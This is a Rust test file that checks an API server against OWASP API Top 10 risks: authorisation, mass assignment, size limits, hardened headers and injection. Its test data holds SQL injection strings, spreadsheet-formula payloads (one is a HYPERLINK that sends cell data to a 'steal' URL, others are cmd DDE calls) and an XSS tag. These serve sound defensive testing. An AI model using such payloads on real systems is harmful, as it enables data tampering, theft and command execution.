//! OWASP API Security Top 10 (2023) as an attacker tries it, on both database backends, through
//! the full router (the API server's own test harness, shared, not copied):
//! - API1 broken object-level authorisation: sessions and accounts belong to their owner;
//! - API3 broken object-property-level authorisation: no mass assignment of `role`/`active`/ids,
//!   no password hash or password in any answer;
//! - API4 unrestricted resource consumption: page, batch and field sizes bounded;
//! - API8 security misconfiguration: security headers on every answer, no CORS, no unexpected
//!   methods, no internals in error bodies;
//! - injection: SQL payloads in every text field, query parameter and path id; SQL and
//!   spreadsheet-formula payloads imported as team names come back verbatim, and nothing else
//!   changes.
//!
//! The rest of the list lives where its machinery is: API2 in `owasp_broken_authentication.rs`,
//! API5 (the role matrix) in `api-server/tests/role_matrix.rs`, malformed bodies and body limits
//! in `api-server/tests/malformed.rs`, cache memory and cache penetration in
//! `api-server/tests/data.rs`, slow clients in `api-server/tests/drain.rs`, API7 (SSRF) in
//! `operator/src/notify.rs`; docs/security.md has the table.
#![allow(clippy::unwrap_used, clippy::expect_used)]

#[path = "../../api-server/tests/common/mod.rs"]
mod common;

use axum::body::Body;
use axum::http::{Method, Request, StatusCode, header};
use common::{ADMIN_PASSWORD, TestApp, TestResponse, Which};
use serde_json::{Value, json};

on_both_backends!(
    sessions_and_accounts_belong_to_their_owner,
    no_mass_assignment_and_no_secret_in_any_answer,
    sizes_are_bounded,
    every_answer_is_hardened_and_there_is_no_cors,
    sql_and_formula_payloads_are_data,
);

const SQL_PAYLOADS: [&str; 6] = [
    "' OR '1'='1",
    "1 OR 1=1",
    "'; DROP TABLE users; --",
    "1; DELETE FROM matches",
    "\" OR \"\"=\"",
    "1' UNION SELECT password_hash FROM users --",
];

fn items(body: &Value) -> &Vec<Value> {
    body["items"].as_array().expect("a page with items")
}

fn percent_encoded(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'~') {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// API1: whatever ids a caller names, he reaches only his own session and account; the user
/// objects of others are an admin's, and a non-admin cannot even learn whether an id exists.
async fn sessions_and_accounts_belong_to_their_owner(which: Which) {
    let app = TestApp::new(which).await;
    let alice = app.register("alice").await;
    let bob = app.register("bob").await;

    // `me` is the token's subject, whatever the request adds.
    for path in [
        "/api/v1/auth/me",
        &format!("/api/v1/auth/me?id={}", bob.user_id),
        &format!("/api/v1/auth/me?user_id={}", bob.user_id),
    ] {
        let r = app.get(path, Some(&alice.access)).await;
        if r.status == StatusCode::OK {
            assert_eq!(r.json()["id"], alice.user_id, "{path}");
            assert_eq!(r.json()["username"], "alice", "{path}");
        } else {
            r.expect(StatusCode::BAD_REQUEST);
        }
    }

    // Another user's object, by id, existing or not: the same 403 for a viewer, so ids cannot be
    // probed; an admin sees 200 and 404.
    for (method, body) in [
        (Method::PATCH, Some(json!({"role": "admin"}))),
        (Method::PATCH, Some(json!({"active": false}))),
    ] {
        for id in [bob.user_id, alice.user_id, 987_654] {
            let path = format!("/api/v1/admin/users/{id}");
            let r = app
                .send(common::request(
                    method.clone(),
                    &path,
                    Some(&alice.access),
                    body.clone(),
                ))
                .await;
            r.expect(StatusCode::FORBIDDEN);
        }
    }
    let admin = app.admin().await;
    app.patch_json(
        "/api/v1/admin/users/987654",
        Some(&admin.access),
        json!({"active": false}),
    )
    .await
    .expect(StatusCode::NOT_FOUND);
    app.get("/api/v1/admin/users", Some(&alice.access))
        .await
        .expect(StatusCode::FORBIDDEN);

    // A refresh token is its owner's session: it renews his identity only, and ending it leaves
    // everyone else's sessions alone.
    let renewed = app
        .post_json(
            "/api/v1/auth/refresh",
            None,
            json!({"refresh_token": alice.refresh}),
        )
        .await;
    renewed.expect(StatusCode::OK);
    assert_eq!(renewed.json()["user"]["id"], alice.user_id);
    let alice_refresh = renewed.json()["refresh_token"].as_str().unwrap().to_owned();
    app.post_json(
        "/api/v1/auth/logout",
        None,
        json!({"refresh_token": alice_refresh}),
    )
    .await
    .expect(StatusCode::NO_CONTENT);
    let bob_renewed = app
        .post_json(
            "/api/v1/auth/refresh",
            None,
            json!({"refresh_token": bob.refresh}),
        )
        .await;
    bob_renewed.expect(StatusCode::OK);
    assert_eq!(bob_renewed.json()["user"]["id"], bob.user_id);
    app.post_json(
        "/api/v1/auth/refresh",
        None,
        json!({"refresh_token": alice_refresh}),
    )
    .await
    .expect(StatusCode::UNAUTHORIZED);
}

/// API3: a client cannot set properties it does not own, and no answer carries a password or a
/// password hash.
async fn no_mass_assignment_and_no_secret_in_any_answer(which: Which) {
    let app = TestApp::new(which).await;
    let password = "carol-password-1";
    let mut answers: Vec<(String, TestResponse)> = Vec::new();

    // Registration takes a username and a password, nothing else: no role, state or id.
    for extra in [
        json!({"role": "admin"}),
        json!({"active": true, "role": "analyst"}),
        json!({"id": 1}),
        json!({"password_hash": "$argon2id$v=19$m=1024,t=1,p=1$c2FsdHNhbHQ$aGFzaGhhc2hoYXNoaGFzaA"}),
    ] {
        let mut body = json!({"username": "carol", "password": password});
        body.as_object_mut()
            .unwrap()
            .extend(extra.as_object().unwrap().clone());
        let r = app.post_json("/api/v1/auth/register", None, body).await;
        r.expect(StatusCode::UNPROCESSABLE_ENTITY);
        answers.push((format!("register with {extra}"), r));
    }
    // None of those created the account: it registers now, as a viewer.
    let r = app
        .post_json(
            "/api/v1/auth/register",
            None,
            json!({"username": "carol", "password": password}),
        )
        .await;
    r.expect(StatusCode::CREATED);
    assert_eq!(r.json()["user"]["role"], "viewer");
    let carol_id = r.json()["user"]["id"].as_i64().unwrap();
    answers.push(("register".into(), r));

    // An admin changes role and state only; a username, password or id is refused whole (the
    // role in the same body is not applied either).
    let admin = app.admin().await;
    for body in [
        json!({"role": "analyst", "username": "mallory"}),
        json!({"role": "analyst", "password": "another-password-1"}),
        json!({"role": "analyst", "password_hash": "x"}),
        json!({"role": "analyst", "id": 1}),
    ] {
        let r = app
            .patch_json(
                &format!("/api/v1/admin/users/{carol_id}"),
                Some(&admin.access),
                body.clone(),
            )
            .await;
        r.expect(StatusCode::UNPROCESSABLE_ENTITY);
        answers.push((format!("patch with {body}"), r));
    }
    let login = app
        .post_json(
            "/api/v1/auth/login",
            None,
            json!({"username": "carol", "password": password}),
        )
        .await;
    login.expect(StatusCode::OK);
    assert_eq!(login.json()["user"]["role"], "viewer");
    let carol_access = login.json()["access_token"].as_str().unwrap().to_owned();
    answers.push(("login".into(), login));
    answers.push((
        "me".into(),
        app.get("/api/v1/auth/me", Some(&carol_access)).await,
    ));
    answers.push((
        "users".into(),
        app.get("/api/v1/admin/users", Some(&admin.access)).await,
    ));
    answers.push((
        "wrong password".into(),
        app.post_json(
            "/api/v1/auth/login",
            None,
            json!({"username": "carol", "password": "not-carols-password"}),
        )
        .await,
    ));

    for (what, answer) in &answers {
        let text = answer.text();
        for secret in [password, ADMIN_PASSWORD, "not-carols-password", "$argon2"] {
            assert!(!text.contains(secret), "{what} answers {secret}: {text}");
        }
        if let Ok(json) = serde_json::from_str::<Value>(&text) {
            let keys = keys(&json);
            assert!(
                !keys
                    .iter()
                    .any(|k| k.contains("hash") || k.contains("password")),
                "{what} answers a secret's field: {keys:?}"
            );
        }
    }
    let users = app.get("/api/v1/admin/users", Some(&admin.access)).await;
    let carol = items(&users.json())
        .iter()
        .find(|u| u["id"] == carol_id)
        .cloned()
        .unwrap();
    assert_eq!(carol["username"], "carol");
    assert_eq!(carol["role"], "viewer");
}

/// API4: what one request may ask for is bounded: page sizes, batch sizes, field lengths, and
/// the number of query parameters.
async fn sizes_are_bounded(which: Which) {
    let app = TestApp::with_args(which, &["--demo-data", "on"]).await;
    let token = app.register("dave").await.access;
    for limit in ["101", "100000", "0", "-1", "18446744073709551616"] {
        for path in [
            "/api/v1/matches?league=DEMO",
            "/api/v1/predictions?league=DEMO",
        ] {
            let r = app
                .get(&format!("{path}&limit={limit}"), Some(&token))
                .await;
            r.expect(StatusCode::UNPROCESSABLE_ENTITY);
        }
    }
    let page = app
        .get("/api/v1/matches?league=DEMO&limit=100", Some(&token))
        .await;
    page.expect(StatusCode::OK);
    assert!(items(&page.json()).len() <= 100);

    let too_many: Vec<i64> = (1..=101).collect();
    app.post_json(
        "/api/v1/predictions/batch",
        Some(&token),
        json!({"match_ids": too_many}),
    )
    .await
    .expect(StatusCode::UNPROCESSABLE_ENTITY);

    // Long fields are refused before any work is done on them (argon2 on a long password).
    for body in [
        json!({"username": "e".repeat(10_000), "password": "a-good-password"}),
        json!({"username": "erin", "password": "p".repeat(10_000)}),
    ] {
        app.post_json("/api/v1/auth/register", None, body.clone())
            .await
            .expect(StatusCode::UNPROCESSABLE_ENTITY);
        let login = app.post_json("/api/v1/auth/login", None, body).await;
        assert!(
            matches!(
                login.status,
                StatusCode::UNPROCESSABLE_ENTITY | StatusCode::UNAUTHORIZED
            ),
            "{}",
            login.text()
        );
    }

    // A thousand parameters, or one repeated a thousand times: refused, not looped over.
    let many: String = (0..1000).map(|i| format!("&p{i}=1")).collect();
    let repeated: String = (0..1000).map(|_| "&league=DEMO").collect();
    for query in [many, repeated] {
        let r = app
            .get(&format!("/api/v1/matches?league=DEMO{query}"), Some(&token))
            .await;
        assert!(r.status.is_client_error(), "{}: {}", r.status, r.text());
    }
}

/// API8: every kind of answer carries the security headers; no CORS is offered to any origin
/// (the API is not for browsers on other sites); methods nobody routes are refused; error bodies
/// name no internals.
async fn every_answer_is_hardened_and_there_is_no_cors(which: Which) {
    let app = TestApp::with_args(which, &["--demo-data", "on"]).await;
    let token = app.register("frank").await.access;
    let origin = "https://attacker.example";
    let with_origin = |method: Method, path: &str, token: Option<&str>| {
        let mut b = Request::builder()
            .method(method)
            .uri(path)
            .header(header::ORIGIN, origin);
        if let Some(token) = token {
            b = b.header(header::AUTHORIZATION, format!("Bearer {token}"));
        }
        b.body(Body::empty()).unwrap()
    };
    let cases = [
        (
            Method::GET,
            "/api/v1/leagues",
            Some(token.as_str()),
            StatusCode::OK,
        ),
        (
            Method::GET,
            "/api/v1/leagues",
            None,
            StatusCode::UNAUTHORIZED,
        ),
        (
            Method::GET,
            "/api/v1/teams/987654",
            Some(&token),
            StatusCode::NOT_FOUND,
        ),
        (
            Method::GET,
            "/api/v1/nothing-here",
            Some(&token),
            StatusCode::NOT_FOUND,
        ),
        (
            Method::GET,
            "/api/v1/admin/users",
            Some(&token),
            StatusCode::FORBIDDEN,
        ),
        (Method::GET, "/health/live", None, StatusCode::OK),
        (
            Method::DELETE,
            "/api/v1/leagues",
            Some(&token),
            StatusCode::METHOD_NOT_ALLOWED,
        ),
        (
            Method::TRACE,
            "/api/v1/leagues",
            Some(&token),
            StatusCode::METHOD_NOT_ALLOWED,
        ),
        (
            Method::OPTIONS,
            "/api/v1/leagues",
            None,
            StatusCode::METHOD_NOT_ALLOWED,
        ),
        (
            Method::OPTIONS,
            "/api/v1/auth/login",
            None,
            StatusCode::METHOD_NOT_ALLOWED,
        ),
    ];
    for (method, path, token, status) in cases {
        let what = format!("{method} {path}");
        let r = app.send(with_origin(method, path, token)).await;
        assert_eq!(r.status, status, "{what}: {}", r.text());
        let h = &r.headers;
        assert_eq!(h[header::X_CONTENT_TYPE_OPTIONS], "nosniff", "{what}");
        assert_eq!(h[header::X_FRAME_OPTIONS], "DENY", "{what}");
        assert_eq!(h[header::REFERRER_POLICY], "no-referrer", "{what}");
        assert!(h.contains_key(header::CONTENT_SECURITY_POLICY), "{what}");
        let cors: Vec<_> = h
            .keys()
            .filter(|k| k.as_str().starts_with("access-control-"))
            .collect();
        assert!(cors.is_empty(), "{what} offers CORS: {cors:?}");
        assert!(!h.contains_key(header::SERVER), "{what} names its server");
        let text = r.text().to_lowercase();
        for internal in ["sqlx", "sqlite", "postgres", "panicked", ".rs:", "stack"] {
            assert!(!text.contains(internal), "{what} shows {internal}: {text}");
        }
    }
    // Answers with tokens in them are never stored by caches in between.
    let login = app
        .post_json(
            "/api/v1/auth/login",
            None,
            json!({"username": "frank", "password": "a-good-password"}),
        )
        .await;
    login.expect(StatusCode::OK);
    assert_eq!(login.headers[header::CACHE_CONTROL], "no-store");
}

/// Every object key anywhere in `json`.
fn keys(json: &Value) -> Vec<String> {
    match json {
        Value::Object(map) => map
            .iter()
            .flat_map(|(k, v)| std::iter::once(k.to_lowercase()).chain(keys(v)))
            .collect(),
        Value::Array(items) => items.iter().flat_map(keys).collect(),
        _ => Vec::new(),
    }
}

/// A CSV field, quoted as RFC 4180 says.
fn csv_field(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// Injection: SQL payloads wherever text reaches the server are data, never code; team names
/// made of SQL and spreadsheet-formula payloads are stored and answered verbatim (the API answers
/// JSON only, so a formula stays a string until someone exports it to a spreadsheet).
async fn sql_and_formula_payloads_are_data(which: Which) {
    // Dozens of failed logins of `admin` on purpose: no back-off in the way.
    let app = TestApp::with_args(which, &["--login-backoff-after", "0"]).await;
    let admin = app.admin().await;
    let viewer = app.register("grace").await;

    let team_names = [
        "Robert'); DROP TABLE teams;--",
        "' OR '1'='1",
        "\"; DELETE FROM users WHERE \"\"=\"",
        "1' UNION SELECT password_hash FROM users --",
        "=HYPERLINK(\"http://198.18.0.1/steal?d=\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "<script>alert(1)</script> Ünïcödé ⚽",
    ];
    let mut csv = common::season_csv(2023, 8, 10);
    for (i, name) in team_names.iter().enumerate() {
        let club = format!("Club {}", (b'A' + i as u8) as char);
        csv = csv.replace(&format!(",{club},"), &format!(",{},", csv_field(name)));
    }
    let import = app
        .send(
            Request::builder()
                .method(Method::POST)
                .uri("/api/v1/admin/import?league=E0&season=2023-2024")
                .header(header::AUTHORIZATION, format!("Bearer {}", admin.access))
                .header(header::CONTENT_TYPE, "text/csv")
                .body(Body::from(csv))
                .unwrap(),
        )
        .await;
    import.expect(StatusCode::OK);
    assert_eq!(import.json()["import"]["matches"], 56);
    assert_eq!(import.json()["import"]["teams"], 8);

    let teams = app
        .get("/api/v1/teams?league=E0", Some(&viewer.access))
        .await;
    teams.expect(StatusCode::OK);
    let mut stored: Vec<String> = items(&teams.json())
        .iter()
        .map(|t| t["name"].as_str().unwrap().to_owned())
        .collect();
    stored.sort();
    let mut expected: Vec<String> = team_names.iter().map(|s| s.to_string()).collect();
    expected.sort();
    assert_eq!(stored, expected, "team names come back verbatim");

    // A forecast between two of them names them verbatim too.
    let played = app
        .get(
            "/api/v1/predictions?league=E0&upcoming=false&limit=1",
            Some(&viewer.access),
        )
        .await;
    played.expect(StatusCode::OK);
    let played = played.json();
    let forecast = &items(&played)[0];
    for side in ["home_team", "away_team"] {
        let name = forecast[side]["name"].as_str().unwrap();
        assert!(team_names.contains(&name), "{side}: {name}");
    }

    let before = snapshot(&app, &admin.access).await;

    // Every query parameter and path id, with every payload: refused as invalid or not found,
    // never more data, never a server error.
    for payload in SQL_PAYLOADS {
        let p = percent_encoded(payload);
        let paths = [
            format!("/api/v1/teams?league={p}"),
            format!("/api/v1/teams/{p}"),
            format!("/api/v1/teams/1/stats?season={p}"),
            format!("/api/v1/matches?league={p}"),
            format!("/api/v1/matches?league=E0&season={p}"),
            format!("/api/v1/matches?league=E0&team={p}"),
            format!("/api/v1/matches?league=E0&status={p}"),
            format!("/api/v1/matches?league=E0&from={p}"),
            format!("/api/v1/matches?league=E0&to={p}"),
            format!("/api/v1/matches?league=E0&cursor={p}"),
            format!("/api/v1/matches/{p}"),
            format!("/api/v1/matches/{p}/odds"),
            format!("/api/v1/predictions/{p}"),
            format!("/api/v1/predictions?league={p}"),
            format!("/api/v1/predictions?league=E0&cursor={p}"),
            format!("/api/v1/models/{p}/evaluation?league=E0&season=2023-2024"),
            format!("/api/v1/models/dixon-coles/evaluation?league={p}&season=2023-2024"),
            format!("/api/v1/admin/users?cursor={p}"),
        ];
        for path in paths {
            let r = app.get(&path, Some(&admin.access)).await;
            assert!(
                matches!(
                    r.status,
                    StatusCode::BAD_REQUEST
                        | StatusCode::NOT_FOUND
                        | StatusCode::UNPROCESSABLE_ENTITY
                ),
                "{path} answered {}: {}",
                r.status,
                r.text()
            );
        }
        // Bodies: the SQL payload as every string field.
        let bodies = [
            (
                "/api/v1/auth/login",
                json!({"username": payload, "password": "a-good-password"}),
            ),
            (
                "/api/v1/auth/login",
                json!({"username": "admin", "password": format!("{payload}{payload}")}),
            ),
            (
                "/api/v1/auth/login",
                json!({"username": format!("admin{payload}"), "password": ADMIN_PASSWORD}),
            ),
            (
                "/api/v1/auth/register",
                json!({"username": payload, "password": "a-good-password"}),
            ),
            ("/api/v1/auth/refresh", json!({"refresh_token": payload})),
            ("/api/v1/auth/logout", json!({"refresh_token": payload})),
            ("/api/v1/admin/models/refit", json!({"league": payload})),
        ];
        for (path, body) in bodies {
            let r = app.post_json(path, Some(&admin.access), body.clone()).await;
            // Logging out an unknown token succeeds (it tells nothing either way).
            let logout_of_nothing =
                path == "/api/v1/auth/logout" && r.status == StatusCode::NO_CONTENT;
            assert!(
                logout_of_nothing
                    || matches!(
                        r.status,
                        StatusCode::BAD_REQUEST
                            | StatusCode::UNAUTHORIZED
                            | StatusCode::NOT_FOUND
                            | StatusCode::UNPROCESSABLE_ENTITY
                    ),
                "{path} {body} answered {}: {}",
                r.status,
                r.text()
            );
        }
        let role = app
            .patch_json(
                &format!("/api/v1/admin/users/{}", viewer.user_id),
                Some(&admin.access),
                json!({"role": payload}),
            )
            .await;
        role.expect(StatusCode::UNPROCESSABLE_ENTITY);
        let import = app
            .send(
                Request::builder()
                    .method(Method::POST)
                    .uri(format!("/api/v1/admin/import?league={p}&season=2023-2024"))
                    .header(header::AUTHORIZATION, format!("Bearer {}", admin.access))
                    .header(header::CONTENT_TYPE, "text/csv")
                    .body(Body::from(common::season_csv(2023, 4, 1)))
                    .unwrap(),
            )
            .await;
        import.expect(StatusCode::UNPROCESSABLE_ENTITY);
    }

    // A password made of SQL registers and works as a password, nothing more.
    let sql_password = "' OR ''=''; --";
    let r = app
        .post_json(
            "/api/v1/auth/register",
            None,
            json!({"username": "heidi", "password": sql_password}),
        )
        .await;
    r.expect(StatusCode::CREATED);
    app.login("heidi", sql_password).await;
    app.post_json(
        "/api/v1/auth/login",
        None,
        json!({"username": "heidi", "password": "' OR '1'='1' --"}),
    )
    .await
    .expect(StatusCode::UNAUTHORIZED);

    // Nothing changed but the one account registered on purpose.
    let after = snapshot(&app, &admin.access).await;
    assert_eq!(after.leagues, before.leagues);
    assert_eq!(after.users.len(), before.users.len() + 1);
    assert!(after.users.ends_with(&["heidi".to_owned()]));
    assert_eq!(after.users[..before.users.len()], before.users[..]);
    app.login("admin", ADMIN_PASSWORD).await;
}

struct Snapshot {
    /// Every league with its counts, as listed.
    leagues: Value,
    /// Usernames in id order.
    users: Vec<String>,
}

async fn snapshot(app: &TestApp, admin: &str) -> Snapshot {
    let leagues = app.get("/api/v1/leagues", Some(admin)).await;
    leagues.expect(StatusCode::OK);
    let users = app.get("/api/v1/admin/users?limit=100", Some(admin)).await;
    users.expect(StatusCode::OK);
    Snapshot {
        leagues: leagues.json(),
        users: items(&users.json())
            .iter()
            .map(|u| u["username"].as_str().unwrap().to_owned())
            .collect(),
    }
}
